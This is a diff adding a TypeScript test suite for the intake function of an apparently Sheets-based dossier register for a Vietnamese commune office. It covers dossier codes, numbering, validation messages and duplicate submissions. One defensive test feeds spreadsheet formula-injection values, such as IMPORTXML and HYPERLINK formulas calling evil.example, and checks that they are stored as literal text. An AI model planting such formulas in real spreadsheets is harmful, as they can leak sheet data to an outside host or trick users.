@@ -1,0 +1,150 @@
+import { submitIntake, intakeContext } from '../../src/server/intake';
+import { TABS, REGISTER_COLUMNS } from '../../src/sheets/schema';
+import { intakeInput, readyUnit } from '../helpers';
+
+const col = (h: (typeof REGISTER_COLUMNS)[number]) => REGISTER_COLUMNS.indexOf(h);
+
+describe('intake', () => {
+  it('appends the dossier with its code, register number and appointment, and logs one event', () => {
+    const { run } = readyUnit();
+    const result = run((s) => submitIntake(s, intakeInput()));
+    expect(result).toEqual({
+      ok: true,
+      code: '000.17.22.H56-260302-0001',
+      registerNumber: 1,
+      dueAt: '2026-03-11T17:00',
+      appointment: '17 giờ 00, ngày 11/03/2026',
+      rowNumber: 2,
+    });
+    run((_s, ss) => {
+      const row = ss.getSheetByName(TABS.register)!.getRange(2, 1, 1, REGISTER_COLUMNS.length).getDisplayValues()[0]!;
+      expect(row[col('Mã hồ sơ')]).toBe('000.17.22.H56-260302-0001');
+      expect(row[col('STT')]).toBe('1');
+      expect(row[col('Tên thủ tục')]).toBe('Đăng ký thường trú');
+      expect(row[col('Thời điểm tiếp nhận')]).toBe('02/03/2026 08:30');
+      expect(row[col('Hạn trả kết quả')]).toBe('11/03/2026 17:00');
+      expect(row[col('Trạng thái')]).toBe('Đã tiếp nhận');
+      expect(row[col('Số giấy tờ tùy thân')]).toBe('001099012345'); // leading zeros kept
+      expect(row[col('Người tiếp nhận')]).toBe('canbo@example.gov.vn');
+      const log = ss.getSheetByName(TABS.log)!.getRange(2, 1, 1, 7).getDisplayValues()[0]!;
+      expect(log.slice(1)).toEqual([
+        'canbo@example.gov.vn',
+        '000.17.22.H56-260302-0001',
+        'Tiếp nhận hồ sơ',
+        '',
+        'Đã tiếp nhận',
+        '1.004194 – hẹn 17 giờ 00, ngày 11/03/2026',
+      ]);
+      // The log holds no personal data of the applicant.
+      expect(log.join(' ')).not.toMatch(/Nguyễn Thị Hoa|001099012345|0912|hoa@example|Thôn Đông/);
+    });
+  });
+
+  it('numbers dossiers within each day and the register continuously within the year', () => {
+    const { run } = readyUnit();
+    const codes = run((s) => [
+      submitIntake(s, intakeInput({ receivedAt: '2026-03-02T08:00' })),
+      submitIntake(s, intakeInput({ receivedAt: '2026-03-02T08:40' })),
+      submitIntake(s, intakeInput({ receivedAt: '2026-02-27T15:00' })),
+    ]);
+    expect(codes.map((r) => r.ok && [r.code, r.registerNumber])).toEqual([
+      ['000.17.22.H56-260302-0001', 1],
+      ['000.17.22.H56-260302-0002', 2],
+      ['000.17.22.H56-260227-0001', 3],
+    ]);
+  });
+
+  it('refuses with Vietnamese field errors and writes nothing', () => {
+    const { run } = readyUnit();
+    const result = run((s) =>
+      submitIntake(
+        s,
+        intakeInput({
+          applicantName: '  ',
+          idNumber: '12345',
+          phone: 'abc',
+          email: 'không-phải-email',
+          channel: 'Fax',
+          receivedAt: '2026-03-02',
+        }),
+      ),
+    );
+    expect(result).toEqual({
+      ok: false,
+      errors: {
+        applicantName: 'Cần ghi họ và tên người nộp.',
+        idNumber: 'Số giấy tờ tùy thân gồm 12 chữ số (CCCD), 9 chữ số (CMND) hoặc số hộ chiếu.',
+        phone: 'Số điện thoại không đúng (ví dụ 0912 345 678 hoặc +84 912 345 678).',
+        email: 'Địa chỉ email không đúng (ví dụ ten@example.vn).',
+        channel: 'Hãy chọn hình thức nộp: Trực tiếp, Trực tuyến hoặc Bưu chính.',
+        receivedAt: 'Thời điểm tiếp nhận phải có ngày và giờ.',
+      },
+    });
+    expect(run((s) => submitIntake(s, intakeInput({ procedureCode: '9.999999' })))).toEqual({
+      ok: false,
+      errors: { procedureCode: 'Không tìm thấy thủ tục mã “9.999999” đang áp dụng trong Danh mục TTHC.' },
+    });
+    expect(run((s) => submitIntake(s, intakeInput({ receivedAt: '2026-03-02T10:00' })))).toEqual({
+      ok: false,
+      errors: { receivedAt: 'Thời điểm tiếp nhận không được sau thời điểm hiện tại.' },
+    });
+    run((_s, ss) => expect(ss.getSheetByName(TABS.register)!.getLastRow()).toBe(1));
+  });
+
+  it('answers a repeated request (a double click) with the first dossier instead of a second one', () => {
+    const { run } = readyUnit();
+    const input = intakeInput();
+    const first = run((s) => submitIntake(s, input));
+    const second = run((s) => submitIntake(s, input));
+    expect(second).toEqual(first);
+    run((_s, ss) => expect(ss.getSheetByName(TABS.register)!.getLastRow()).toBe(2));
+  });
+
+  it('stores every text field of the intake form as the literal text people typed', () => {
+    const { run } = readyUnit();
+    const risky = {
+      applicantName: '=IMPORTXML("http://evil.example","//a")',
+      idNumber: '001099012345',
+      address: '@x, +1 ngõ 2',
+      phone: '+84 912 345 678',
+      email: '-1@x.vn',
+      handler: '-1',
+      documents: '=HYPERLINK("http://evil.example","Bấm")',
+      note: "'quoted",
+    };
+    const result = run((s) => submitIntake(s, intakeInput(risky)));
+    expect(result.ok).toBe(true);
+    run((_s, ss) => {
+      const range = ss.getSheetByName(TABS.register)!.getRange(2, 1, 1, REGISTER_COLUMNS.length);
+      expect(range.getFormulas()[0]!.every((f) => f === '')).toBe(true);
+      const values = range.getValues()[0]!;
+      expect(values[col('Người nộp')]).toBe(risky.applicantName);
+      expect(values[col('Số giấy tờ tùy thân')]).toBe(risky.idNumber);
+      expect(values[col('Địa chỉ')]).toBe(risky.address);
+      expect(values[col('Điện thoại')]).toBe(risky.phone);
+      expect(values[col('Email')]).toBe(risky.email);
+      expect(values[col('Cán bộ xử lý')]).toBe(risky.handler);
+      expect(values[col('Giấy tờ đã nhận')]).toBe(risky.documents);
+      expect(values[col('Ghi chú')]).toBe(risky.note);
+    });
+  });
+
+  it('gives the sidebar the catalogue, the officers and the unit calendar', () => {
+    const { run } = readyUnit();
+    run((s) => submitIntake(s, intakeInput({ handler: 'Lê Thị Mai' })));
+    const ctx = run((s) => intakeContext(s));
+    expect(ctx).toMatchObject({
+      unitName: 'UBND xã Yên Lạc',
+      unitIdentifier: '000.17.22.H56',
+      now: '2026-03-02T09:00',
+      officers: ['Lê Thị Mai'],
+      problems: [],
+    });
+    expect(ctx.procedures.map((p) => p.code)).toContain('1.001193');
+    expect(ctx.calendarTable).toContainEqual({
+      date: '2026-04-27',
+      kind: 'compensatory',
+      name: 'Nghỉ bù Giỗ Tổ Hùng Vương (10/3 âm lịch)',
+    });
+  });
+});
